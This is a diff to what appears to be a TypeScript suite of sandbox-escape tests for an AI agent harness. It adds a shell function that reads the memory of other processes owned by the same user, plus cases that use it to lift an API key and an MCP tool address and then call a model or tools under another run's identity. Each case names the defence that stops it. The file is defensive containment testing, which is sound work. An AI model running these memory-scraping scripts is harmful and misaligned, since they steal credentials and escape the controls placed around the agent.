@@ -3,6 +3,9 @@ import type { Case } from './case.ts';
 const NO_TOKEN = 'the runner alone has the token';
 const DOOR = 'deny by default: each route asks who you are';
 
+/** Looks through the heap of every process of its own user for a pattern. */
+const LOOK = `look() { for p in $(ls /proc | grep -E '^[0-9]+$'); do [ "$(stat -c %u /proc/$p 2>/dev/null)" = "$(id -u)" ] || continue; awk '/rw-p/ && !/stack/ {split($1, a, "-"); print a[1], a[2]}' /proc/$p/maps 2>/dev/null | while read -r from to; do from=$((0x$from / 4096)); pages=$((0x$to / 4096 - from)); [ $pages -le 16384 ] || continue; dd if=/proc/$p/mem bs=4096 skip=$from count=$pages 2>/dev/null | grep -aoE -m 1 "$1" && return; done; done; }`;
+
 /** The town’s server, the forge, other processes, the machine. */
 export const REACHING: readonly Case[] = [
   {
@@ -113,10 +116,27 @@ export const REACHING: readonly Case[] = [
     stops: 'a secret of 192 bits in the address, one for each run',
   },
   {
+    id: 'model-stolen',
+    says: 'call a model with the agent’s own key in the name of another run',
+    script: [
+      LOOK,
+      "key=$(look 'gtd\\.[A-Za-z0-9._-]{40,}' | head -n 1)",
+      'echo "stolen: ${key:+a key}"',
+      `case "$(status_of -X POST -H "authorization: Bearer $key" -H 'x-session-id: ses_somebody_else' -H 'content-type: application/json' -d '{"model":"x","messages":[]}' http://127.0.0.1:$PORT/llm/openai/chat/completions)" in 2*) escaped model;; esac`,
+    ].join('\n'),
+    made: /stolen: a key/,
+    stops: 'a call is for a live session of that pool, and counted for its run',
+  },
+  {
     id: 'tools-stolen',
     says: 'call the town’s tools with an address stolen from the agent’s memory',
-    script:
-      'url=$(cat /proc/$PPID/task/*/children >/dev/null 2>&1; for p in $(pids_of "acp\\|agent/main"); do grep -aohE "http://127.0.0.1:[0-9]+/mcp/[A-Za-z0-9_-]{20,}" /proc/$p/environ /proc/$p/cmdline 2>/dev/null; awk "/rw-p/{print \\$1}" /proc/$p/maps 2>/dev/null | head -400 | while IFS=- read -r a b; do dd if=/proc/$p/mem bs=4096 skip=$((0x$a/4096)) count=$(((0x$b-0x$a)/4096)) 2>/dev/null | grep -aohE -m1 "http://127.0.0.1:[0-9]+/mcp/[A-Za-z0-9_-]{20,}"; done; done | head -1); echo "found ${url:+one}"; [ -n "$url" ] && case "$(status_of -X POST -H "content-type: application/json" -H "accept: application/json, text/event-stream" -d "{\\"jsonrpc\\":\\"2.0\\",\\"id\\":1,\\"method\\":\\"tools/list\\"}" "$url")" in 200) escaped tools;; esac; true',
+    script: [
+      LOOK,
+      "url=$(look 'http://127.0.0.1:[0-9]+/mcp/[A-Za-z0-9_-]{20,}' | head -n 1)",
+      'echo "stolen: ${url:+an address}"',
+      `[ -n "$url" ] && [ "$(status_of -X POST -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' -d '{"jsonrpc":"2.0","id":1,"method":"tools/list"}' "$url")" = 200 ] && escaped tools; true`,
+    ].join('\n'),
+    made: /stolen: an address/,
     stops: 'the address works only from the process that it was given to',
   },
   {
